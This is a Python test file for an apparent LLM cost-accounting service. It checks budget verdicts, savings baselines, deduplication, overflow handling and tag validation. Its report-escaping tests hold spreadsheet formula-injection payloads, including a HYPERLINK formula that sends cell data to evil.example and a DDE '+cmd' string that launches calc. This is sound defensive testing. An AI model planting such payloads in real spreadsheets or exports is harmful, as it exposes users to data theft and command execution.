"""Cost accounting and budgets under hostile or careless input: the holes a review found, one test each.

Budget verdicts rank by what they do, not by arrival order; a pin the budget dropped is no baseline; a
redelivered usage record is counted once in the metrics too; report cells are never formulas or markup; huge
amounts are bounded at the contract and summed without overflow, and one budget's failure does not stop the
others; a tag key cannot hold '=' and so cannot be charged under another tag.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from typing import Any

import pytest
from pydantic import ValidationError

from frugalstream.accountant.app import AccountantService
from frugalstream.accountant.audit_estimates import add_audits
from frugalstream.accountant.budgets import Budget, BudgetTracker
from frugalstream.accountant.ledger import Ledger, to_units, to_usd
from frugalstream.accountant.logic import Accountant
from frugalstream.accountant.report import build_report, render
from frugalstream.classifier.logic import Classifier, Routed
from frugalstream.classifier.routing import PolicyDenied, choose_model
from frugalstream.llm.budgets import BudgetBook
from frugalstream.llm.pricing.catalog import PriceCatalog
from frugalstream.llm.pricing.costing import cost_event, price_usage
from frugalstream.llm.tokens import TokenCounter
from frugalstream.llm.usage import llm_usage
from frugalstream.runtime.messaging import Publisher
from frugalstream.runtime.metrics import Metrics, exposition
from frugalstream.runtime.records import Decoded, Record
from frugalstream.runtime.settings import Settings, TenantPolicy
from frugalstream.runtime.stage import BatchContext
from frugalstream.schemas import (
    BudgetState,
    ChatMessage,
    CostPoint,
    LLMRequest,
    PricedStep,
    TokenUsage,
    UsageRecord,
)
from frugalstream.schemas import topics as t
from frugalstream.schemas.audits import AuditAnswer, AuditRecord
from frugalstream.schemas.responses import MAX_TOKENS

CATALOG = PriceCatalog.load()
T0 = 1_760_000_400.0  # 2025-10-09T09:00:00Z
FAR = T0 + 86_400.0  # an upper bound past every event of these tests
M = 1_000_000
INT64_MAX = 2**63 - 1


def rec(i: int, tenant: str, model: str = "gpt-4o", *, tags: dict[str, str] | None = None,
        steps: tuple[PricedStep, ...] = (), **tokens: int) -> UsageRecord:
    """A usage record at T0; 1000 input tokens unless `tokens` says otherwise (on gpt-4o: $0.0025)."""
    usage = TokenUsage(**tokens) if tokens else TokenUsage(input_tokens=1000)
    return UsageRecord(id=f"u{i}", request_id=f"r{i}", tenant=tenant, stage="gateway", source="llm",
                       tags=tags or {}, baseline=CostPoint(model=model, usage=usage), steps=steps, occurred_at=T0,
                       task_type="faq")


# --- 1. A budget verdict is the strictest applicable one, whatever the arrival order ----------------------------

def state(budget_id: str, status: str, action: str, tag: str | None = None) -> BudgetState:
    return BudgetState.model_validate({
        "budget_id": budget_id, "tenant": "acme", "tag": tag, "period": "day", "period_start": "2025-10-09T00:00:00Z",
        "limit_usd": 1.0, "spent_usd": 2.0 if status == "over" else 0.9, "status": status, "action": action,
        "updated_at": 1.0})


@pytest.mark.parametrize("reverse", [False, True])
def test_over_refuse_tag_budget_is_not_masked_by_an_over_downgrade_tenant_budget(reverse: bool) -> None:
    states = [state("acme/*/day", "over", "downgrade"), state("acme/team=ads/day", "over", "refuse", "team=ads")]
    book = BudgetBook(clock=lambda: T0)
    for st in reversed(states) if reverse else states:
        book.update(st)
    verdict = book.verdict("acme", {"team": "ads"})
    assert verdict is not None and verdict.budget_id == "acme/team=ads/day"
    with pytest.raises(PolicyDenied):
        choose_model("small", None, TenantPolicy(), verdict, Settings())
    # Untagged requests are not under the tag budget: the tenant-wide downgrade applies.
    assert book.verdict("acme", {}) == states[0]


@pytest.mark.parametrize("reverse", [False, True])
@pytest.mark.parametrize("refuse_on_tag", [True, False])
def test_near_downgrade_budget_is_not_masked_by_a_near_refuse_budget(reverse: bool, refuse_on_tag: bool) -> None:
    # A refuse budget near its limit has action none (refuse stops only once over): it changes nothing. Either
    # budget may be the tenant-wide one, so neither arrival order nor budget id decides.
    if refuse_on_tag:
        states = [state("acme/team=ads/month", "near", "none", "team=ads"), state("acme/*/day", "near", "downgrade")]
    else:
        states = [state("acme/*/month", "near", "none"), state("acme/team=ads/day", "near", "downgrade", "team=ads")]
    book = BudgetBook(clock=lambda: T0)
    for st in reversed(states) if reverse else states:
        book.update(st)
    choice = choose_model("large", None, TenantPolicy(), book.verdict("acme", {"team": "ads"}), Settings())
    assert choice.downgraded_by_budget and choice.tier == "mid"


# --- 2. A pin the budget dropped, and the catalog cannot price, is not the savings baseline ----------------------

async def _routed_under_over_budget(model: str) -> Routed:
    classifier = Classifier(Settings(), TokenCounter(), budgets=BudgetBook(clock=lambda: T0), catalog=CATALOG)
    classifier.budgets.update(state("acme/*/day", "over", "downgrade"))
    ask = LLMRequest(id="q1", tenant="acme", model=model,
                     messages=(ChatMessage(role="user", content="What are your opening hours?"),))
    [res] = await classifier.handle([ask])
    assert isinstance(res, Routed), res
    return res


async def test_a_dropped_unpriced_pin_is_not_the_baseline() -> None:
    routed = (await _routed_under_over_budget("made-up-ultra-9000")).routed
    route = routed.route
    assert route.downgraded_by_budget and not route.pinned
    assert route.baseline_model == Settings().default_baseline_model and CATALOG.has(route.baseline_model)
    data = price_usage(llm_usage(routed, route.model, TokenUsage(input_tokens=1000, output_tokens=1000)), CATALOG)
    assert not data.price_unknown, data.unpriced_models  # the saving is against a price, not the top-rate guess


async def test_a_served_unpriced_pin_is_its_own_baseline_saving_nothing() -> None:
    """Allowed unpriced, and not dropped: both sides are priced at the conservative rate, so no saving and no loss."""
    classifier = Classifier(Settings(tenants={"acme": TenantPolicy(allow_unpriced_models=True)}), TokenCounter(),
                            catalog=CATALOG)
    ask = LLMRequest(id="q2", tenant="acme", model="made-up-ultra-9000",
                     messages=(ChatMessage(role="user", content="What are your opening hours?"),))
    [res] = await classifier.handle([ask])
    assert isinstance(res, Routed) and res.routed.route.pinned
    assert res.routed.route.baseline_model == res.routed.route.model == "made-up-ultra-9000"


async def test_a_dropped_priced_pin_is_still_the_baseline() -> None:
    route = (await _routed_under_over_budget("gpt-4.1")).routed.route
    assert route.downgraded_by_budget and route.baseline_model == "gpt-4.1"


# --- 3. A redelivered usage record is counted once in the spend and savings series ------------------------------

class _Broker:
    async def publish(self, *_: Any, **__: Any) -> None:
        return None


async def test_a_redelivered_usage_record_is_counted_once_in_the_metrics() -> None:
    metrics, settings = Metrics(), Settings(kafka_idempotent=False)
    svc = AccountantService(settings, Accountant(CATALOG, Ledger(), metrics=metrics), metrics=metrics)
    publisher = Publisher(_Broker(), settings, metrics)  # type: ignore[arg-type]
    routed = rec(1, "acme", steps=(PricedStep(strategy="routed_down", model="gpt-4o-mini",
                                              usage=TokenUsage(input_tokens=M)),), input_tokens=M)
    unpriced = rec(2, "acme", "mystery-9", input_tokens=M)
    # The producer sent `routed` twice (one batch), and the batch came again after a crash before the commit.
    batch = [Decoded(Record(t.USAGE, 0, i, None, b"", ()), r) for i, r in enumerate((routed, unpriced, routed))]
    for _ in range(2):
        await publisher.publish_all(await svc._on_usage(batch, BatchContext()), service="accountant")
    assert svc.ledger.totals()["requests"] == 2 and svc.logic.priced == 6
    assert metrics.spend_usd.labels("acme", "gpt-4o-mini")._value.get() == 0.15
    assert metrics.saved_usd.labels("acme", "routed_down")._value.get() == pytest.approx(2.35, abs=1e-12)
    assert 'frugal_unpriced_usage_total{model="mystery-9"} 1.0' in exposition(metrics)


def test_ledger_insert_returns_only_the_ids_it_stored() -> None:
    a, b = (cost_event(rec(i, "acme"), CATALOG) for i in (1, 2))
    with Ledger() as led:
        assert led.insert([a]) == [a.id]
        assert led.insert([a, b, b]) == [b.id] and led.add_many([a, b]) == 0


# --- 4/5. Report cells are never spreadsheet formulas nor Rich markup ------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _audit(led: Ledger, audit_id: str, tenant: str) -> None:
    add_audits(led, [AuditRecord.model_validate({
        "audit_id": audit_id, "tenant": tenant, "request_id": "r", "kind": "cache_semantic", "task_type": "faq",
        "candidate": AuditAnswer(content="a"), "reference": AuditAnswer(content="b"), "judge": "human",
        "verdict": "accept", "judged_at": T0, "estimate": {"tenant": tenant, "task_type": "faq",
                                                           "kind": "cache_semantic", "n": 1, "accepted": 1,
                                                           "rate": 1.0, "low": 0.2, "high": 1.0}})])


def _negative_saving(i: int, tenant: str, model: str) -> UsageRecord:
    """Routed to a model the catalog lacks: priced at the top rates, a negative saving (a negative amount)."""
    return rec(i, tenant, steps=(PricedStep(strategy="routed_down", model=model, usage=TokenUsage(input_tokens=1000)),))


def _hostile_ledger() -> Ledger:
    led = Ledger()
    led.add(cost_event(rec(1, EVIL), CATALOG))
    led.add(cost_event(rec(2, "+cmd|' /C calc'!A0", "@sum(1)", tags={"@team": "-2+3"}), CATALOG))
    led.add(cost_event(_negative_saving(3, "\tx", "\rm"), CATALOG))
    _audit(led, "a1", "-1+HYPERLINK(1)")
    return led


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("by", ["tenant", "tag", "model", "strategy"])
def test_csv_report_quotes_formula_names_and_leaves_numbers_alone(by: str) -> None:
    with _hostile_ledger() as led:
        text = render(build_report(led, by=by), "csv")  # type: ignore[arg-type]
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _is_number(c))]
    assert any(c.startswith("-") and _is_number(c) for c in cells)  # a negative amount is still a number
    if by == "tenant":
        assert "'" + EVIL in cells and "'-1+HYPERLINK(1)" in cells  # the name kept, only neutralised


def test_table_report_shows_names_literally_and_does_not_crash_on_markup() -> None:
    with Ledger() as led:
        led.add(cost_event(rec(4, "[/bold]"), CATALOG))
        led.add(cost_event(rec(5, "[red]acme[/red]"), CATALOG))
        led.add(cost_event(rec(6, "acme"), CATALOG))
        led.add(cost_event(_negative_saving(7, "acme", "[b]x[/b]"), CATALOG))
        _audit(led, "a2", "[/bold]")
        tenant_text = render(build_report(led, by="tenant"), "table")
        model_text = render(build_report(led, by="model"), "table")
    assert "[red]acme[/red]" in tenant_text  # else two distinct tenants both read "acme"
    assert tenant_text.count("[/bold]") == 2  # the breakdown's row and the audit estimates' row
    assert model_text.count("[b]x[/b]") == 2  # the breakdown's row and the unpriced models' row


# --- 6. Huge amounts: bounded at the contract, summed without overflow, one budget's failure isolated ----------

def test_token_counts_are_bounded_at_the_contract() -> None:
    assert TokenUsage(output_tokens=MAX_TOKENS).output_tokens == 10**11
    for field in TokenUsage.model_fields:
        if field != "estimated":
            with pytest.raises(ValidationError):
                TokenUsage(**{field: 10**14})
    with pytest.raises(ValidationError):
        UsageRecord.model_validate_json(rec(1, "acme").model_dump_json().replace('"input_tokens":1000',
                                                                                   '"input_tokens":100000000000000'))


def _maxed(i: int, tenant: str, *, cached: bool = False) -> UsageRecord:
    """The most one record can cost: every token kind at the bound, on a model priced at the top rates (`cached`:
    then answered from the cache, all of it a saving)."""
    steps = (PricedStep(strategy="cache_exact", model="gpt-4o", usage=TokenUsage()),) if cached else ()
    return rec(i, tenant, "unlisted-ultra", steps=steps,
               **{f: MAX_TOKENS for f in TokenUsage.model_fields if f != "estimated"})


def test_a_record_at_the_bound_fits_the_ledger_and_is_counted_exactly() -> None:
    event = cost_event(_maxed(1, "acme"), CATALOG)
    assert to_units(event.data.actual_cost_usd) < INT64_MAX  # a pricier catalog that breaks this must say so
    with Ledger() as led:
        assert led.add(event)
        assert led.spent("acme", None, T0 - 1, FAR) == event.data.actual_cost_usd


def test_sums_past_int64_are_exact_and_every_query_survives() -> None:
    events = [cost_event(_maxed(i, "acme", cached=i % 2 == 1), CATALOG) for i in range(100)]
    events.append(cost_event(_negative_saving(100, "acme", "gpt-99"), CATALOG))  # negative terms in the sums too
    units = {k: sum(to_units(getattr(e.data, f"{k}_cost_usd")) for e in events) for k in ("actual", "baseline")}
    saved = units["baseline"] - units["actual"]
    assert min(units["actual"], saved) > INT64_MAX  # spend, baseline and savings all overflow an int64 sum
    with Ledger() as led:
        led.add_many(events)
        led.add(cost_event(rec(101, "globex"), CATALOG))
        _audit(led, "a1", "acme")
        assert led.spent("acme", None, T0 - 1, FAR) == to_usd(units["actual"])
        totals = led.totals()
        assert totals["actual_cost_usd"] == to_usd(units["actual"] + to_units(0.0025))
        assert totals["saved_usd"] == to_usd(saved) and totals["items"] == 102
        assert totals["by_strategy"]["cache_exact"] == to_usd(saved + -to_units(
            events[-1].data.savings_by_strategy["routed_down"]))
        assert [r["tenant"] for r in led.breakdown("tenant")] == ["acme", "globex"]
        assert [r["strategy"] for r in led.breakdown("strategy")] == ["cache_exact", "routed_down"]
        assert led.timeseries(3600)[0]["actual_cost_usd"] == totals["actual_cost_usd"]
        assert led.unpriced()[0]["model"] == "unlisted-ultra"
        for fmt in ("json", "csv", "table", "html"):
            assert "globex" in render(build_report(led), fmt)  # type: ignore[arg-type]
        assert json.loads(render(build_report(led), "json"))["audit_summary"]["gross_savings_usd"] == to_usd(saved)


async def test_one_tenants_huge_spend_does_not_stall_other_tenants_budgets() -> None:
    budgets = BudgetTracker([Budget(tenant="acme", period="day", limit_usd=10**12, action="refuse"),
                             Budget(tenant="globex", period="day", limit_usd=1.0, action="refuse")])
    acc = Accountant(CATALOG, Ledger(), budgets=budgets, clock=lambda: T0 + 10, metrics=Metrics())
    await acc.handle([*(_maxed(i, "acme") for i in range(60)), rec(99, "globex", input_tokens=M)])
    assert {(s.tenant, s.status) for s in await acc.budget_changes()} == {("acme", "ok"), ("globex", "over")}


class _FailingFor:
    """A ledger whose spend query fails for one tenant."""

    def __init__(self, tenant: str) -> None:
        self.tenant, self.failing = tenant, True

    def spent(self, tenant: str, tag: str | None, since: float, until: float) -> float:
        if tenant == self.tenant and self.failing:
            raise sqlite3.OperationalError("database is locked")
        return 5.0


def test_a_budget_that_fails_to_evaluate_does_not_stop_the_others_and_stays_pending() -> None:
    tracker = BudgetTracker([Budget(tenant="acme", period="day", limit_usd=1.0),
                             Budget(tenant="globex", period="day", limit_usd=1.0, action="refuse")])
    ledger = _FailingFor("acme")
    states = tracker.pending(ledger, T0)
    assert [(s.tenant, s.status, s.action) for s in states] == [("globex", "over", "refuse")]
    tracker.mark_published(states)
    ledger.failing = False
    assert [(s.tenant, s.status) for s in tracker.pending(ledger, T0)] == [("acme", "over")]


# --- 7. A tag key cannot hold '=', so a request is never charged under another tag ------------------------------

def test_a_tag_key_with_equals_is_refused_at_the_contract() -> None:
    with pytest.raises(ValidationError, match="may not contain '='"):
        LLMRequest(id="q", tenant="acme", tags={"env=prod": "eu"},
                   messages=(ChatMessage(role="user", content="hi"),))
    assert LLMRequest(id="q", tenant="acme", tags={"env": "prod=eu"},  # '=' in a value is fine
                      messages=(ChatMessage(role="user", content="hi"),)).tags == {"env": "prod=eu"}


def test_a_usage_tag_key_with_equals_is_not_charged_under_another_tag() -> None:
    # Usage records from producers that skip LLMRequest (a summarize job's tags) reach the ledger as written.
    with Ledger() as led:
        led.add(cost_event(rec(1, "acme", tags={"env=prod": "eu", "team": "ads"}), CATALOG))
        led.add(cost_event(rec(2, "acme", tags={"env": "prod=eu"}), CATALOG))
        assert led.spent("acme", "env=prod=eu", T0 - 1, FAR) == 0.0025  # request 2 only
        assert led.spent("acme", "team=ads", T0 - 1, FAR) == 0.0025
